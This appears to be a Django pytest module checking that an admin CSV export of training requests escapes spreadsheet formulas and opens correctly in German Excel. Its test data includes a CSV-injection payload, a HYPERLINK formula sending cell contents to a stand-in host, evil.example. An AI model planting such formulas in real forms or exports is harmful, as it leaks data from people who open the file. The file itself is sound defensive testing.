"""The in-house requests' admin export: what visitors typed never runs as a spreadsheet formula."""

import csv
import datetime
import io

import pytest

from trainings.models import InHouseRequest

from .test_inhouse import module, post_request  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_csv_export_neutralises_formulas_from_the_public_form(admin_client, client, programme,
                                                              module,  # noqa: F811
                                                              django_capture_on_commit_callbacks):
    response = post_request(client, programme, module, django_capture_on_commit_callbacks,
                            organisation=FORMULA, contact_name="+49 341 1234", location="@Leipzig")
    assert response.status_code == 302
    assert InHouseRequest.objects.get().organisation == FORMULA  # stored as typed

    export = admin_client.get("/admin/trainings/inhouse-requests/?export=csv")
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    # Comma or the semicolon German Excel expects: whichever the header line uses.
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    values = rows[1]
    assert "'" + FORMULA in values and FORMULA not in values
    assert "'+49 341 1234" in values and "'@Leipzig" in values
    assert "maria@example.org" in values


def test_csv_export_opens_in_german_excel_with_local_times(admin_client, client, programme,
                                                          module,  # noqa: F811
                                                          django_capture_on_commit_callbacks):
    post_request(client, programme, module, django_capture_on_commit_callbacks)
    # Received at 22:30 UTC on New Year's Eve: 23:30 in Berlin, still the same day.
    InHouseRequest.objects.update(
        created_at=datetime.datetime(2029, 12, 31, 22, 30, tzinfo=datetime.UTC))
    raw = b"".join(admin_client.get("/admin/trainings/inhouse-requests/?export=csv")
                   .streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert "2029-12-31 23:30" in rows[1] and "Stadtverwaltung Chemnitz" in rows[1]
